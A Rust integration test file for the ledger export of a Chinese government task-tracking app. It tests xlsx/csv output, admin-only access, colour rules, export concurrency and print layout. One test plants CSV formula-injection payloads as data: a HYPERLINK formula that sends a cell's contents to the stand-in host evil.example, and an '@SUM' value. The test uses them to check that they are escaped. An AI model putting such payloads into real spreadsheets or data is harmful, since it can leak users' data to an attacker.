//! The 台账 as the office gets it, on both engines: `api export` writes .xlsx and .csv, and
//! `GET /export/ledger.xlsx` / `.csv` serves them to the administrator only. Workbooks are read
//! back with calamine, a reader independent of the writer.

use crate::support;

use std::{io::Cursor, process::Command};

use calamine::{Data, Reader, Xlsx};
use chrono::NaiveDate;
use entity::{ItemStatus, item};
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, IntoActiveModel, QueryFilter,
};
use serde_json::{Value, json};
use support::{ADMIN_TOKEN, TestApp, admin_app, department_id, import_text, issue_token};
use test_support::{TestDb, backend_tests};

const LIST: &str = "示例市2025年台账测试清单
一、新建城市书房
事项内容:新建城市书房10处。
完成时限:2025年6月底
牵头部门:市文旅局
二、改造学校操场
事项内容:改造学校操场20个。
完成时限:2025年6月底
牵头部门:市教育局
配合部门:市财政局
三、建设社区食堂
事项内容:建设社区食堂5处。
完成时限:2025年9月底
牵头部门:市民政局
四、改造供水管网
事项内容:改造供水管网30公里,6月底前开工。
完成时限:2025年6月底前开工,12月底前完工
牵头部门:市住建局
";
const NOW: &str = "2025-11-05T10:00:00+08:00";

/// A list with an item done late, one whose deadline the office moved, one overdue and one
/// with two due dates; returns the app and the list's ID.
async fn prepared(t: &TestDb) -> (TestApp, Value) {
    let app = admin_app(t).await;
    let list_id = import_text(&app, LIST).await;
    let three = support::item_id(&app, "社区食堂").await;
    let moved = app
        .graphql_as(
            Some(ADMIN_TOKEN),
            "mutation($id: ID!) { changeDeadline(itemId: $id, dueOn: \"2025-10-31\", reason: \"施工许可延后\") { id } }",
            json!({ "id": three }),
        )
        .await;
    assert!(moved.get("errors").is_none(), "{moved}");
    let two = item::Entity::find()
        .filter(item::Column::Number.eq(2))
        .one(&t.db)
        .await
        .expect("query")
        .expect("item 2");
    let mut done = two.into_active_model();
    done.status = Set(ItemStatus::Done);
    done.completed_on = Set(NaiveDate::from_ymd_opt(2025, 7, 15));
    done.update(&t.db).await.expect("done");
    (app, list_id)
}

/// `GET /export/ledger.xlsx` for list `list` as of `now`, as the administrator: the workbook.
async fn ledger_xlsx(app: &TestApp, list: &str, now: &str) -> Vec<u8> {
    let response = app
        .client
        .get(app.url("/export/ledger.xlsx"))
        .query(&[("listId", list), ("now", now)])
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    response.bytes().await.expect("body").to_vec()
}

fn text(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

/// Checks a workbook of [`LIST`] as of [`NOW`].
fn check_workbook(bytes: Vec<u8>) {
    check_colours(&bytes);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("xlsx");
    assert_eq!(book.sheet_names(), ["台账", "考评"]);
    let sheet = book.worksheet_range("台账").expect("台账");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows.len(), 2 + 4, "title, header, four items");
    assert_eq!(
        text(&rows[0][0]),
        "示例市2025年台账测试清单（截至2025-11-05）"
    );
    let header: Vec<String> = rows[1].iter().map(text).collect();
    assert_eq!(header, domain::export::HEADER);
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let row = |n: usize| rows[1 + n];

    assert_eq!(text(&row(1)[column("序号")]), "一");
    assert_eq!(text(&row(1)[column("紧急程度")]), "逾期");
    // Dates are Excel dates, not strings.
    match &row(1)[column("到期日")] {
        Data::DateTime(d) => assert_eq!(
            d.as_datetime().map(|d| d.date()),
            NaiveDate::from_ymd_opt(2025, 6, 30)
        ),
        other => panic!("到期日 is {other:?}"),
    }
    assert_eq!(text(&row(2)[column("状态")]), "已办结");
    assert_eq!(text(&row(2)[column("紧急程度")]), "已完成");
    assert_eq!(text(&row(2)[column("配合部门")]), "市财政局");
    assert!(matches!(row(2)[column("完成日期")], Data::DateTime(_)));
    assert_eq!(
        text(&row(3)[column("延期记录")]),
        "第2版 2025-10-31：督查室调整：施工许可延后"
    );
    assert_eq!(text(&row(3)[column("紧急程度")]), "逾期");
    assert!(matches!(row(4)[column("提醒次数")], Data::Float(f) if f == 0.0));
    // Two due dates (开工, 完工): the cell holds the earlier one.
    match &row(4)[column("到期日")] {
        Data::DateTime(d) => assert_eq!(
            d.as_datetime().map(|d| d.date()),
            NaiveDate::from_ymd_opt(2025, 6, 30)
        ),
        other => panic!("到期日 is {other:?}"),
    }

    let scores = book.worksheet_range("考评").expect("考评");
    let departments: Vec<String> = scores.rows().skip(1).map(|r| text(&r[0])).collect();
    assert_eq!(
        departments,
        ["市文旅局", "市教育局", "市民政局", "市住建局"]
    );
}

/// A conditional format of the item sheet: its range, its formula and the fill it gives.
#[derive(Debug)]
struct Rule {
    sqref: String,
    formula: String,
    fill: Option<String>,
    border: bool,
}

/// The item sheet's conditional formats, read from the package's XML (zip + quick-xml),
/// not through the writer.
fn colour_rules(bytes: &[u8]) -> Vec<Rule> {
    use quick_xml::events::Event;
    use std::io::Read;
    let mut package = zip::ZipArchive::new(Cursor::new(bytes)).expect("zip");
    let mut read = |name: &str| {
        let mut xml = String::new();
        package
            .by_name(name)
            .expect(name)
            .read_to_string(&mut xml)
            .expect("utf-8");
        xml
    };
    let styles = read("xl/styles.xml");
    let sheet = read("xl/worksheets/sheet1.xml");
    let attr = |e: &quick_xml::events::BytesStart, name: &str| {
        e.attributes()
            .flatten()
            .find(|a| a.key.as_ref() == name)
            .map(|a| a.value.into_owned())
    };
    // Each dxf (differential format) in order: its fill colour and whether it has a border.
    let mut dxfs: Vec<(Option<String>, bool)> = Vec::new();
    let mut reader = quick_xml::Reader::from_str(&styles);
    let mut in_dxf = false;
    loop {
        match reader.read_event().expect("styles.xml") {
            Event::Start(e) if e.name().as_ref() == "dxf" => {
                in_dxf = true;
                dxfs.push((None, false));
            }
            Event::End(e) if e.name().as_ref() == "dxf" => in_dxf = false,
            Event::Start(e) | Event::Empty(e) if in_dxf => {
                let last = dxfs.last_mut().expect("in a dxf");
                match e.name().as_ref() {
                    "bgColor" => last.0 = attr(&e, "rgb"),
                    "left" | "top" if attr(&e, "style").is_some() => last.1 = true,
                    _ => {}
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    let mut rules = Vec::new();
    let mut reader = quick_xml::Reader::from_str(&sheet);
    let (mut sqref, mut dxf, mut formula) = (String::new(), 0usize, None::<String>);
    loop {
        match reader.read_event().expect("sheet1.xml") {
            Event::Start(e) if e.name().as_ref() == "conditionalFormatting" => {
                sqref = attr(&e, "sqref").expect("sqref");
            }
            Event::Start(e) if e.name().as_ref() == "cfRule" => {
                dxf = attr(&e, "dxfId").expect("dxfId").parse().expect("index");
            }
            Event::Start(e) if e.name().as_ref() == "formula" => formula = Some(String::new()),
            Event::Text(t) if formula.is_some() => {
                formula.get_or_insert_default().push_str(&t.xml10_content());
            }
            // `&quot;` and its kind arrive as references of their own.
            Event::GeneralRef(r) if formula.is_some() => {
                let entity = r.xml10_content();
                let resolved = quick_xml::escape::resolve_predefined_entity(&entity)
                    .expect("a predefined entity");
                formula.get_or_insert_default().push_str(resolved);
            }
            Event::End(e) if e.name().as_ref() == "formula" => {
                let (fill, border) = dxfs[dxf].clone();
                rules.push(Rule {
                    sqref: sqref.clone(),
                    formula: formula.take().expect("in a formula"),
                    fill,
                    border,
                });
            }
            Event::Eof => break,
            _ => {}
        }
    }
    rules
}

/// Rows are coloured by urgency (红 overdue, 黄 due soon, 绿 done) and bordered: the first
/// rule that holds for a row gives its fill, as LibreOffice applies them, each rule's formula
/// read as Excel would for that row.
fn check_colours(bytes: &[u8]) {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("xlsx");
    let sheet = book.worksheet_range("台账").expect("台账");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let rules = colour_rules(bytes);
    assert!(!rules.is_empty(), "no conditional formats");
    let last = rows.len();
    for rule in &rules {
        assert_eq!(rule.sqref, format!("A3:N{last}"), "the item rows: {rule:?}");
        assert!(rule.border, "every rule borders the cells: {rule:?}");
    }
    let urgency = domain::export::HEADER
        .iter()
        .position(|h| *h == "紧急程度")
        .expect("紧急程度");
    let letter = (b'A' + urgency as u8) as char;
    for (i, row) in rows.iter().enumerate().skip(2) {
        let excel_row = i + 1;
        let value = text(&row[urgency]);
        let holds = |formula: &str| {
            if formula == "TRUE" {
                return true;
            }
            let (cell, label) = formula.split_once('=').expect("a comparison");
            assert_eq!(cell, format!("${letter}3"), "keyed on 紧急程度");
            // Relative row: the rule's row 3 is this row.
            label.trim_matches('"') == value
        };
        let fill = rules
            .iter()
            .find(|r| holds(&r.formula))
            .map(|r| r.fill.clone());
        let expected = match value.as_str() {
            "逾期" => Some("FFF8CBAD"),
            "临期" => Some("FFFFE699"),
            "已完成" => Some("FFC6E0B4"),
            _ => None,
        };
        assert_eq!(
            fill.expect("the bordering rule holds for every row")
                .as_deref(),
            expected,
            "row {excel_row} ({value})"
        );
    }
}

async fn the_cli_writes_the_ledger_as_xlsx_and_csv(t: TestDb) {
    let (_app, list_id) = prepared(&t).await;
    let dir = std::env::temp_dir().join(format!(
        "minsheng-export-{}-{:?}",
        std::process::id(),
        t.backend
    ));
    std::fs::create_dir_all(&dir).expect("dir");
    let run = |file: &str, list: &str| {
        Command::new(env!("CARGO_BIN_EXE_api"))
            .args(["export", "--list", list, "--now", NOW, file])
            .current_dir(&dir)
            .env_remove("MINSHENG_CONFIG")
            .env("DATABASE_URL", &t.url)
            .output()
            .expect("run api export")
    };
    let list = list_id.as_str().expect("an ID");
    let out = run("ledger.xlsx", list);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    check_workbook(std::fs::read(dir.join("ledger.xlsx")).expect("written"));

    let out = run("ledger.csv", list);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = std::fs::read(dir.join("ledger.csv")).expect("written");
    assert!(
        csv.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 with a byte-order mark"
    );
    let csv = String::from_utf8(csv[3..].to_vec()).expect("utf-8");
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("示例市2025年台账测试清单（截至2025-11-05）")
    );
    assert!(
        lines
            .next()
            .is_some_and(|h| h.starts_with("序号,事项,事项内容,完成时限,到期日"))
    );

    let missing = run("none.xlsx", "999");
    assert!(!missing.status.success());
    assert!(String::from_utf8_lossy(&missing.stderr).contains("list 999"));
    let _ = std::fs::remove_dir_all(&dir);
}

async fn the_ledger_is_served_to_the_administrator_only(t: TestDb) {
    let (app, list_id) = prepared(&t).await;
    let list = list_id.as_str().expect("an ID");
    let get = |path: String, token: Option<String>| {
        let app = &app;
        async move {
            let mut request = app.client.get(app.url(&path));
            if let Some(token) = token {
                request = request.bearer_auth(token);
            }
            request.send().await.expect("request")
        }
    };
    let path = format!(
        "/export/ledger.xlsx?listId={list}&now={}",
        NOW.replace('+', "%2B")
    );

    let anonymous = get(path.clone(), None).await;
    assert_eq!(anonymous.status(), 401);
    let body: Value = anonymous.json().await.expect("json");
    assert_eq!(body["error"]["code"], "UNAUTHENTICATED");

    let department = department_id(&app, "市民政局").await;
    let (token, _) = issue_token(&app, &department).await;
    let forbidden = get(path.clone(), Some(token)).await;
    assert_eq!(forbidden.status(), 403);

    let bad = get(
        "/export/ledger.xlsx?listId=nope".into(),
        Some(ADMIN_TOKEN.into()),
    )
    .await;
    assert_eq!(bad.status(), 400);
    let gone = get(
        "/export/ledger.xlsx?listId=UHJvamVjdExpc3Q6OTk5".into(),
        Some(ADMIN_TOKEN.into()),
    )
    .await;
    assert_eq!(gone.status(), 404, "ProjectList:999");

    let xlsx = get(path, Some(ADMIN_TOKEN.into())).await;
    assert_eq!(xlsx.status(), 200);
    assert_eq!(
        xlsx.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(
        xlsx.headers()["content-disposition"]
            .to_str()
            .is_ok_and(|d| d.contains("ledger-2025-11-05.xlsx"))
    );
    check_workbook(xlsx.bytes().await.expect("body").to_vec());

    let csv = get(
        format!("/export/ledger.csv?listId={list}"),
        Some(ADMIN_TOKEN.into()),
    )
    .await;
    assert_eq!(csv.status(), 200);
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(
        csv.bytes()
            .await
            .expect("body")
            .starts_with(b"\xEF\xBB\xBF")
    );
}

/// The seed's ledger (where the seed is readable): one row per printed item, each dated item's
/// 到期日 an Excel date, every lead department on the second sheet.
async fn the_seed_exports_one_row_per_item(t: TestDb) {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/data/heze-2021-livelihood-list-batch1.txt");
    let Ok(seed) = std::fs::read_to_string(&path) else {
        test_support::skipped(format_args!("{} is not readable here", path.display()));
        return;
    };
    let app = admin_app(&t).await;
    let imported = app
        .graphql_as(
            Some(ADMIN_TOKEN),
            "mutation($text: String!) { importList(input: { text: $text }) { listId itemCount } }",
            json!({ "text": seed }),
        )
        .await;
    let report = &imported["data"]["importList"];
    let items = report["itemCount"].as_u64().expect("count") as usize;
    assert_eq!(items, 20);
    let bytes = ledger_xlsx(
        &app,
        report["listId"].as_str().expect("id"),
        "2021-06-23T09:00:00+08:00",
    )
    .await;
    check_colours(&bytes);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("xlsx");
    let sheet = book.worksheet_range("台账").expect("台账");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows.len(), 2 + items);
    let numbers: Vec<String> = rows[2..].iter().map(|r| text(&r[0])).collect();
    // The seed starts mid-list (its first page is not in the text): 三 is its first item.
    assert_eq!(numbers.first().map(String::as_str), Some("三"));
    let dated = rows[2..]
        .iter()
        .filter(|r| matches!(r[4], Data::DateTime(_)))
        .count();
    let strings = rows[2..]
        .iter()
        .filter(|r| matches!(r[4], Data::String(_)))
        .count();
    assert_eq!(strings, 0, "due dates are never strings");
    assert!(dated >= 18, "{dated} dated items");
    let scores = book.worksheet_range("考评").expect("考评");
    assert!(scores.rows().count() > 10);
}

/// Departments are listed as printed, not in the order they became known: the second item
/// names the first item's departments the other way round.
async fn departments_keep_their_printed_order(t: TestDb) {
    const ORDER: &str = "示例市2025年部门顺序测试清单
一、新建城市书房
事项内容:新建城市书房10处。
完成时限:2025年6月底
牵头部门:市文旅局、市教育局
配合部门:市财政局、市住建局、市民政局
二、改造学校操场
事项内容:改造学校操场20个。
完成时限:2025年6月底
牵头部门:市教育局、市文旅局
配合部门:市民政局、市住建局、市财政局
";
    let app = admin_app(&t).await;
    let list = import_text(&app, ORDER).await;
    let bytes = ledger_xlsx(
        &app,
        list.as_str().expect("an ID"),
        "2025-01-06T09:00:00+08:00",
    )
    .await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("xlsx");
    let sheet = book.worksheet_range("台账").expect("台账");
    let departments: Vec<(String, String)> = sheet
        .rows()
        .skip(2)
        .map(|r| (text(&r[5]), text(&r[6])))
        .collect();
    assert_eq!(
        departments,
        [
            (
                "市文旅局、市教育局".to_owned(),
                "市财政局、市住建局、市民政局".to_owned()
            ),
            (
                "市教育局、市文旅局".to_owned(),
                "市民政局、市住建局、市财政局".to_owned()
            ),
        ]
    );
}

/// Titles and department names come from lists published outside: in ledger.csv one that
/// begins like a formula (`=HYPERLINK(…)`, `+cmd|…`, `-…`, `@…`) is written as text, with a
/// leading apostrophe, so that Excel shows it instead of evaluating it.
async fn formulas_in_the_csv_are_written_as_text(t: TestDb) {
    let (app, list) = prepared(&t).await;
    let item = support::item_id(&app, "城市书房").await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"点我")"#;
    let edited = app
        .graphql_as(
            Some(ADMIN_TOKEN),
            "mutation($id: ID!, $t: String!) { updateItem(itemId: $id, input: { title: $t }) { title } }",
            json!({ "id": item, "t": formula }),
        )
        .await;
    assert_eq!(edited["data"]["updateItem"]["title"], formula, "{edited}");
    let department = department_id(&app, "市教育局").await;
    let renamed = app
        .graphql_as(
            Some(ADMIN_TOKEN),
            "mutation($id: ID!) { renameDepartment(departmentId: $id, name: \"@SUM(1+1)教育局\") { name } }",
            json!({ "id": department }),
        )
        .await;
    assert!(renamed["errors"].is_null(), "{renamed}");
    let csv = app
        .client
        .get(app.url(&format!(
            "/export/ledger.csv?listId={}",
            list.as_str().expect("an ID")
        )))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("download");
    assert_eq!(csv.status(), 200);
    let body = csv.text().await.expect("text");
    assert!(
        body.contains(r#"'=HYPERLINK(""http://evil.example"#),
        "{body}"
    );
    assert!(body.contains("'@SUM(1+1)教育局"), "{body}");
    for evaluated in [
        r#""=HYPERLINK"#,
        ",=HYPERLINK",
        ",@SUM",
        "\n@SUM",
        ",\"@SUM",
    ] {
        assert!(!body.contains(evaluated), "{evaluated} in {body}");
    }
}

/// Exports past MINSHENG_EXPORT_MAX_CONCURRENT are answered 503 `BUSY` with `Retry-After`,
/// never 500, and `/readyz` answers at once meanwhile: five parallel exports of 20,020 items
/// once answered 500 and held `/readyz` for 10 s.
async fn exports_past_the_bound_wait_their_turn(t: TestDb) {
    let app = TestApp::start_with(&support::settings_with(
        &t.url,
        &[
            ("MINSHENG_ADMIN_TOKEN", ADMIN_TOKEN),
            ("MINSHENG_EXPORT_MAX_CONCURRENT", "1"),
            ("MINSHENG_BODY_LIMIT_BYTES", "8388608"),
        ],
    ))
    .await;
    let list = import_text(&app, &test_support::listgen::list_text(1500)).await;
    let url = app.url(&format!(
        "/export/ledger.xlsx?listId={}",
        list.as_str().expect("an ID")
    ));
    let exports = (0..5).map(|_| {
        let request = app.client.get(&url).bearer_auth(ADMIN_TOKEN).send();
        async move {
            let response = request.await.expect("export");
            let status = response.status().as_u16();
            let retry = response
                .headers()
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned);
            (status, retry)
        }
    });
    let ready = async {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        let started = std::time::Instant::now();
        let status = app.status("/readyz").await;
        (status, started.elapsed())
    };
    let (answers, (ready, took)) = tokio::join!(futures_util::future::join_all(exports), ready);
    assert_eq!(ready, 200);
    assert!(
        took < std::time::Duration::from_secs(1),
        "/readyz took {took:?}"
    );
    assert!(
        answers.iter().all(|(s, _)| *s == 200 || *s == 503),
        "{answers:?}"
    );
    assert!(answers.iter().any(|(s, _)| *s == 200), "{answers:?}");
    let busy: Vec<_> = answers.iter().filter(|(s, _)| *s == 503).collect();
    assert!(!busy.is_empty(), "one export at a time: {answers:?}");
    assert!(
        busy.iter().all(|(_, retry)| retry.as_deref() == Some("5")),
        "{answers:?}"
    );
    // Once the export is done, the next one is served.
    let again = app
        .client
        .get(&url)
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("again");
    assert_eq!(again.status(), 200);
}

backend_tests!(
    exports_past_the_bound_wait_their_turn,
    formulas_in_the_csv_are_written_as_text,
    departments_keep_their_printed_order,
    the_seed_exports_one_row_per_item,
    the_cli_writes_the_ledger_as_xlsx_and_csv,
    the_ledger_is_served_to_the_administrator_only
);

/// The 台账 as the office prints it: LibreOffice (headless) turns the served workbook into a
/// PDF. Every page is landscape, and every page carries the title and header rows with the
/// first and the last column, so no column falls on a page of its own; the footer numbers the
/// pages. The download is named in Chinese.
#[tokio::test]
async fn the_ledger_prints_landscape_one_page_wide_with_its_header_on_every_page() {
    let tools = ["soffice", "pdfinfo", "pdftotext"];
    if let Some(missing) = tools.iter().find(|tool| {
        !Command::new(tool)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success() || !o.stderr.is_empty() || !o.stdout.is_empty())
    }) {
        assert!(
            std::env::var("MINSHENG_REQUIRE_CLIENT_CHECKS").as_deref() != Ok("1"),
            "MINSHENG_REQUIRE_CLIENT_CHECKS=1 but {missing} is not installed (libreoffice-calc-nogui, poppler-utils)"
        );
        test_support::skipped(format_args!(
            "printing the 台账: {missing} is not installed"
        ));
        return;
    }
    let t = TestDb::sqlite().await;
    let app = admin_app(&t).await;
    // Enough items for several pages.
    let list = import_text(&app, &test_support::listgen::list_text(60)).await;
    let list = list.as_str().expect("an ID");
    let response = app
        .client
        .get(app.url("/export/ledger.xlsx"))
        .query(&[("listId", list), ("now", "2025-11-05T10:00:00+08:00")])
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    let disposition = response
        .headers()
        .get("content-disposition")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    // …台账（截至2025-11-05）.xlsx, percent-encoded.
    assert!(
        disposition
            .contains("%E5%8F%B0%E8%B4%A6%EF%BC%88%E6%88%AA%E8%87%B32025-11-05%EF%BC%89.xlsx"),
        "{disposition}"
    );
    let bytes = response.bytes().await.expect("body");

    let dir = std::env::temp_dir().join(format!("minsheng-print-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("a directory");
    let workbook = dir.join("ledger.xlsx");
    std::fs::write(&workbook, &bytes).expect("written");
    // A profile of its own: another LibreOffice running (or a test beside this one) would
    // otherwise take the conversion over.
    let profile = format!(
        "-env:UserInstallation=file://{}",
        dir.join("profile").display()
    );
    let converted = Command::new("soffice")
        .args([&profile, "--headless", "--convert-to", "pdf", "--outdir"])
        .arg(&dir)
        .arg(&workbook)
        .output()
        .expect("soffice runs");
    let pdf = dir.join("ledger.pdf");
    assert!(
        pdf.exists(),
        "no PDF: {}",
        String::from_utf8_lossy(&converted.stderr)
    );
    let info = Command::new("pdfinfo")
        .args(["-f", "1", "-l", "999"])
        .arg(&pdf)
        .output()
        .expect("pdfinfo runs");
    let info = String::from_utf8_lossy(&info.stdout).into_owned();
    let sizes: Vec<(f64, f64)> = info
        .lines()
        .filter(|l| l.starts_with("Page") && l.contains(" size: "))
        .map(|l| {
            let size = l.split(" size: ").nth(1).expect("a size");
            let mut numbers = size
                .split(|c: char| !(c.is_ascii_digit() || c == '.'))
                .filter(|p| !p.is_empty())
                .map(|p| p.parse::<f64>().expect("a number"));
            (
                numbers.next().expect("width"),
                numbers.next().expect("height"),
            )
        })
        .collect();
    // Both sheets print: the 台账's pages, then the 考评's.
    assert!(sizes.len() >= 3, "{info}");
    for (page, (width, height)) in sizes.iter().enumerate() {
        assert!(width > height, "page {} is portrait: {info}", page + 1);
    }
    let pages = sizes.len();
    let mut ledger_pages = 0;
    for page in 1..=pages {
        let text = Command::new("pdftotext")
            .args(["-layout", "-f", &page.to_string(), "-l", &page.to_string()])
            .arg(&pdf)
            .arg("-")
            .output()
            .expect("pdftotext runs");
        let text = String::from_utf8_lossy(&text.stdout);
        assert!(
            text.contains(&format!("第 {page} 页，共 {pages} 页")),
            "page {page}'s footer: {text}"
        );
        if text.contains("牵头部门") && text.contains("事项内容") {
            ledger_pages += 1;
            // The first and the last column, and the title, on every page of the 台账.
            for words in ["序号", "完成日期", "截至2025-11-05"] {
                assert!(text.contains(words), "page {page} lacks {words}: {text}");
            }
        } else {
            // The 考评 sheet: all its columns on the page too.
            assert!(
                text.contains("牵头部门") && text.contains("已签收"),
                "page {page} holds neither sheet's whole header: {text}"
            );
        }
    }
    assert!(ledger_pages >= 2, "60 items print on several pages");
    let _ = std::fs::remove_dir_all(&dir);
}
